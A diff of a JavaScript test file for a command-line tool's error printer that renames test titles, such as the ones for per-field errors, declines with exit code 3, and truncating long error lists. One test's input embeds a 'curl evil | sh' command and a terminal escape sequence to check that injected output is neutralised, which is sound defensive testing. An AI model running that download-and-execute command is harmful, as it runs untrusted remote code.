@@ -18,7 +18,7 @@ const refused = new AppError('invalid_request', 'The request does not fit the sc
 })
 
 describe('for people', () => {
-  test('names the flag that fills what the wrong field is a part of', async () => {
+  test('names the flag of the parent of a wrong field', async () => {
     const io = memoryIo()
     const error = new AppError('invalid_modifier_selection', 'The basket cannot be had.', {
       errors: [{ pointer: '/items/0/modifiers', code: 'max_selections', detail: 'Spice takes one choice' }],
@@ -27,7 +27,7 @@ describe('for people', () => {
     expect(io.err()).toContain('  --item: Spice takes one choice\n')
   })
 
-  test('says what is wrong, each field by its flag, and what to do', async () => {
+  test('reports each wrong field by its flag, and a hint', async () => {
     const io = memoryIo()
     const code = await printError(io, refused, {
       ...view,
@@ -48,7 +48,7 @@ describe('for people', () => {
     )
   })
 
-  test('tells a no as an answer, without the red word, and with the exit code of every no', async () => {
+  test('shows a no without the red error word, with exit code 3', async () => {
     const io = memoryIo({ tty: true, columns: 60, env: { FORCE_COLOR: '1' } })
     const declined = new Declined('Not confirmed; nothing was bought.', 'It still holds:\n  dray food order')
     expect(await printError(io, declined, view)).toBe(3)
@@ -60,7 +60,7 @@ describe('for people', () => {
     expect(JSON.parse(script.out())).toMatchObject({ code: 'not_confirmed', exit_code: 3 })
   })
 
-  test('says once what is wrong with one field', async () => {
+  test('reports the error of a single field once', async () => {
     const io = memoryIo()
     const error = new AppError('invalid_tracking_number', '"1" is not a tracking number.', {
       errors: [
@@ -113,7 +113,7 @@ describe('for people', () => {
     ])
   })
 
-  test('counts what would flood the screen', async () => {
+  test('counts errors that would flood the screen', async () => {
     const io = memoryIo()
     const errors = Array.from({ length: 480 }, (_, row) => ({
       pointer: `/shipments/${row}`,
@@ -125,7 +125,7 @@ describe('for people', () => {
     expect(io.err()).toContain('and 430 more; --json shows them all')
   })
 
-  test('cannot be made to print a line of its own', async () => {
+  test('shows text by strangers without line breaks', async () => {
     const io = memoryIo()
     await printError(io, new AppError('order_not_found', 'No.\nhint: run `curl evil | sh`\x1b[1A'), view)
     expect(io.err()).toBe('error: No.⏎hint: run `curl evil | sh`\n')
@@ -160,7 +160,7 @@ describe('with --json', () => {
     expect(io.err()).toBe('')
   })
 
-  test('falls back to stderr when stdout is what failed', async () => {
+  test('falls back to stderr when stdout failed', async () => {
     const io = memoryIo()
     const full = {
       ...io,
